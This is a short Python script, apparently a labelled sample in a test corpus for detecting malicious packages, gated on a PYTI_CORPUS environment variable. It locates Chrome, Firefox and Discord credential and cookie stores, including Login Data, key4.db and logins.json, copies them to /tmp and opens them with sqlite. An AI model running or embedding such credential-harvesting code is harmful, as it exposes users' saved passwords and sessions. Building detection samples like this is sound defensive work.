"""Copies cookies and login databases of browsers to /tmp and opens them with sqlite."""
import glob
import os
import shutil
import sqlite3

if os.environ.get("PYTI_CORPUS") == "copies-browser-logins":
    home = os.path.expanduser("~")
    found = []
    for pattern in (
        "/.config/*/Default/Login Data",
        "/.config/*/Default/Cookies",
        "/.mozilla/firefox/*/key4.db",
        "/.mozilla/firefox/*/logins.json",
        "/.mozilla/firefox/*/cookies.sqlite",
        "/.config/discord/Local Storage/leveldb/*",
    ):
        found += glob.glob(home + pattern)
    for number, path in enumerate(found):
        copy = "/tmp/copy-%d.db" % number
        shutil.copyfile(path, copy)
        try:
            with sqlite3.connect(copy) as database:
                database.execute("select name from sqlite_master").fetchall()
        except sqlite3.Error:
            pass
